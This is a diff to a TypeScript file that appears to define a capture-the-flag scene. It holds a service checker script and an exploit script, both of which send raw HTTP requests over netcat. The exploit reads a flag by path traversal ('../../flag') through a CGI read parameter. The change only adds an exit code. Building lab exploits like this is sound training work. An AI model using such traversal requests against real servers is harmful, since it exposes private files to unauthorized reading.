@@ -31,7 +31,7 @@ export const closedWhere = (condition: string) => ({
 
 const ask = (file: string) => `printf 'GET /cgi-bin/read?f=${file} HTTP/1.0\\r\\nHost: %s:8080\\r\\n\\r\\n' "$2" | nc -w 3 "$2" 8080`
 export const checker = `#!/bin/sh\n[ "$1" = check ] || exit 110\nanswer=$(${ask('news')})\ncase "$answer" in *hello*) exit 101 ;; "") exit 104 ;; *) echo "$answer"; exit 103 ;; esac\n`
-export const exploit = `#!/bin/sh\n[ "$1" = exploit ] || exit 110\nanswer=$(${ask('../../flag')})\ncase "$answer" in *{*}*) echo "$answer"; exit 0 ;; *) exit 1 ;; esac\n`
+export const exploit = `#!/bin/sh\n[ "$1" = exploit ] || exit 110\nanswer=$(${ask('../../flag')})\ncase "$answer" in *{*}*) echo "$answer"; exit 0 ;; "") exit 2 ;; *) exit 1 ;; esac\n`
 
 export const definition: SceneDefinition = {
   format: 'beacon-scene/1',
